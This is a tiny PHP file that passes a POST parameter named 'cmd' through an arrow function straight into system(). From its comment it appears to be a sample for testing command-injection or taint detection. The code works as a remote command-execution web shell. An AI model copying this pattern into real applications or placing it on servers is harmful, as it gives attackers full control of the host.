<?php
// Request value read through an arrow function before reaching a shell.
$in = fn($k) => $_POST[$k] ?? '';
system($in('cmd'));
